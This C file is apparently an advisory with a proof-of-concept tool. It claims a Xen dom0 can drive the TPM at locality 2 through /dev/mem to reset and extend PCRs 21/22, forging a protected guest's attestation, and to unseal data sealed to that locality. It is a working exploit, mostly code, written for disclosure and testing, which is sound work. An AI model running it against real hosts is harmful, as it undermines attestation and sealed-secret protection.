/* SPDX-License-Identifier: BSD-2-Clause */
/*
 * Advisory: dom0 measures, and unseals, in the hypervisor's name.
 *
 * Claim    whoever reaches the TPM at locality 2 can set PCRs 21 and 22, and
 *          so attest whatever he likes as a protected guest; and he can unseal
 *          what is sealed to that locality.
 * Method   drive the TPM's registers through /dev/mem, with the driver that
 *          Xen itself uses, at localities 0 to 2: reset PCR 21, extend it (or
 *          the PCR given, by the digests given), seal something to
 *          PolicyLocality(2) and unseal it.
 * Stock    works at locality 2.
 *
 *     tpmextend [PCR [DIGEST...]]      digests: 64 hex digits each
 *
 * Prints "reset LOCALITY RESULT", "extend LOCALITY RESULT" and "unseal
 * LOCALITY RESULT", with "done", "refused CODE" (the TPM's response code, as
 * 0x907), "garbled" (it calls that a success) or "unreachable", and then how far
 * it came.  The kernel's driver must be unloaded (it claims the range).
 */
#include <errno.h>
#include <fcntl.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#include <cloister/tpm2.h>

#define BASE    0xfed40000ul
#define SIZE    0x5000ul
#define PCR     21u
#define MOST    32
#define SECONDS 120u

static volatile uint8_t *regs;

static uint8_t read8(void *ctx, uint32_t offset)
{
    (void)ctx;

    return regs[offset];
}

static void write8(void *ctx, uint32_t offset, uint8_t value)
{
    (void)ctx;
    regs[offset] = value;
}

static uint32_t read32(void *ctx, uint32_t offset)
{
    (void)ctx;

    return *(volatile uint32_t *)(regs + offset);
}

static uint64_t now_us(void *ctx)
{
    struct timespec t;

    (void)ctx;
    clock_gettime(CLOCK_MONOTONIC, &t);

    return (uint64_t)t.tv_sec * 1000000 + (uint64_t)t.tv_nsec / 1000;
}

static const struct cl_tpm_platform platform = {
    .read8 = read8,
    .write8 = write8,
    .read32 = read32,
    .now_us = now_us,
};

static struct cl_tpm tpm;
static uint8_t cmd[CL_TPM2_CMD_MAX];

/* The number of the last command of this attack, and what came of it. */
static unsigned int nr_sent;
static int sent;
static char how_far[128];

static unsigned int code(void);

/* Before anything else is sent: what has been in the way. */
static void note_how_far(void)
{
    snprintf(how_far, sizeof(how_far), "command %u: error %d at %s, %zu bytes,"
             " response code %#x", nr_sent, sent, cl_tpm_where(&tpm),
             (size_t)tpm.rsp_len, code());
}

/* Sends cmd; whether the TPM has answered, with what is in tpm then. */
static bool send(size_t len)
{
    int rc = cl_tpm_start(&tpm, cmd, len);

    nr_sent++;

    while ( !rc && (rc = cl_tpm_poll(&tpm)) == -EINPROGRESS )
    {
        usleep(1000);
        rc = 0;
    }
    sent = rc;

    return !rc;
}

/* What stands in the last response (Part 1, "Response Header"). */
static unsigned int code(void)
{
    const uint8_t *p = tpm.buf + 6;

    return (unsigned int)p[0] << 24 | (unsigned int)p[1] << 16 |
           (unsigned int)p[2] << 8 | p[3];
}

static const char *verdict(size_t len, int (*parse)(const uint8_t *, size_t))
{
    static char refused[32];

    if ( !send(len) || tpm.rsp_len < CL_TPM_HEADER_SIZE )
        return "unreachable";
    if ( !parse(tpm.buf, tpm.rsp_len) )
        return "done";
    if ( !code() )
        return "garbled";
    snprintf(refused, sizeof(refused), "refused %#x", code());

    return refused;
}

static int empty(const uint8_t *rsp, size_t len)
{
    return cl_tpm2_empty_rsp(rsp, len, true);
}

/* ---- What is done -------------------------------------------------------- */

static unsigned int pcr = PCR, nr_digests = 1;
static uint8_t digests[MOST][CL_TPM2_DIGEST] = {"dom0 was here"};

static const char *reset(void)
{
    return verdict(cl_tpm2_pcr_reset_cmd(cmd, sizeof(cmd), pcr), empty);
}

static const char *extend(void)
{
    const char *result = "done";

    for ( unsigned int i = 0; i < nr_digests && *result == 'd'; i++ )
        result = verdict(cl_tpm2_pcr_extend_cmd(cmd, sizeof(cmd), pcr,
                                                digests[i]), empty);

    return result;
}

/* A session that has met PolicyLocality(2), as far as it goes; 0: none. */
static uint32_t session(bool trial)
{
    static const uint8_t nonce[16];
    uint32_t s = 0;

    if ( !send(cl_tpm2_start_policy_cmd(cmd, sizeof(cmd), trial, nonce)) ||
         cl_tpm2_start_policy_rsp(tpm.buf, tpm.rsp_len, &s) )
        return 0;
    send(cl_tpm2_policy_locality_cmd(cmd, sizeof(cmd), s, 2));

    return s;
}

static bool seal(struct cl_tpm2_seal *what, uint32_t *object)
{
    static uint8_t kept[2][512];
    uint32_t s = session(true);
    struct cl_tpm2_created made;

    if ( !send(cl_tpm2_policy_digest_cmd(cmd, sizeof(cmd), s)) ||
         cl_tpm2_policy_digest_rsp(tpm.buf, tpm.rsp_len, what->policy) )
        return false;
    send(cl_tpm2_flush_cmd(cmd, sizeof(cmd), s));
    if ( !send(cl_tpm2_seal_cmd(cmd, sizeof(cmd), what)) ||
         cl_tpm2_seal_rsp(tpm.buf, tpm.rsp_len, &made) ||
         made.private.len > sizeof(kept[0]) ||
         made.public.len > sizeof(kept[1]) )
        return false;
    memcpy(kept[0], made.private.p, made.private.len);
    memcpy(kept[1], made.public.p, made.public.len);
    made.private.p = kept[0];
    made.public.p = kept[1];

    return send(cl_tpm2_load_cmd(cmd, sizeof(cmd), what->parent, made.private,
                                 made.public)) &&
           !cl_tpm2_load_rsp(tpm.buf, tpm.rsp_len, object);
}

static int opened(const uint8_t *rsp, size_t len)
{
    uint8_t out[32];
    size_t got;

    return cl_tpm2_unseal_rsp(rsp, len, out, sizeof(out), &got);
}

static const char *unseal(void)
{
    struct cl_tpm2_seal what = {.data = {(const uint8_t *)"sealed", 6}};
    const char *result = "unreachable";
    uint32_t object = 0, s = 0;

    if ( send(cl_tpm2_create_primary_cmd(cmd, sizeof(cmd),
                                         CL_TPM2_RH_OWNER)) &&
         !cl_tpm2_create_primary_rsp(tpm.buf, tpm.rsp_len, &what.parent) &&
         seal(&what, &object) )
    {
        s = session(false);
        result = verdict(cl_tpm2_unseal_cmd(cmd, sizeof(cmd), object, s),
                         opened);
        send(cl_tpm2_flush_cmd(cmd, sizeof(cmd), s));
        send(cl_tpm2_flush_cmd(cmd, sizeof(cmd), object));
    }
    note_how_far();
    if ( what.parent )
        send(cl_tpm2_flush_cmd(cmd, sizeof(cmd), what.parent));

    return result;
}

static const struct
{
    const char *name;
    const char *(*run)(void);
} attacks[] = {{"reset", reset}, {"extend", extend}, {"unseal", unseal}};

#define NR_ATTACKS (sizeof(attacks) / sizeof(attacks[0]))

/* ---- How ----------------------------------------------------------------- */

/* In a child: an access that Xen refuses ends it. */
static void attack(unsigned int locality, unsigned int which)
{
    const char *result = "unreachable";
    int fd = open("/dev/mem", O_RDWR | O_SYNC);
    void *p = fd < 0 ? MAP_FAILED
                     : mmap(NULL, SIZE, PROT_READ | PROT_WRITE, MAP_SHARED, fd,
                            (off_t)BASE);

    alarm(SECONDS);
    if ( p != MAP_FAILED )
    {
        regs = p;
        if ( !cl_tpm_init(&tpm, &platform, locality) )
            result = attacks[which].run();
        if ( !*how_far )
            note_how_far();
    }
    printf("%s %u %s\n", attacks[which].name, locality, result);
    if ( !strcmp(result, "unreachable") )
        printf("  %s\n", how_far);
    fflush(stdout);
    _exit(0);
}

static bool parse(int argc, char **argv)
{
    if ( argc > 1 )
        pcr = (unsigned int)atoi(argv[1]);
    if ( argc > 2 )
        nr_digests = (unsigned int)argc - 2;
    if ( nr_digests > MOST )
        return false;
    for ( int i = 2; i < argc; i++ )
    {
        if ( strlen(argv[i]) != 2 * CL_TPM2_DIGEST )
            return false;
        for ( unsigned int b = 0; b < CL_TPM2_DIGEST; b++ )
            if ( sscanf(argv[i] + 2 * b, "%2hhx", &digests[i - 2][b]) != 1 )
                return false;
    }

    return true;
}

int main(int argc, char **argv)
{
    unsigned int locality, which;
    int status;
    pid_t pid;

    if ( !parse(argc, argv) )
        return 2;
    for ( locality = 0; locality < 3; locality++ )
        for ( which = 0; which < NR_ATTACKS; which++ )
        {
            pid = fork();
            if ( !pid )
                attack(locality, which);
            if ( pid < 0 || waitpid(pid, &status, 0) != pid ||
                 !WIFEXITED(status) )
                printf("%s %u unreachable\n", attacks[which].name, locality);
        }

    return 0;
}
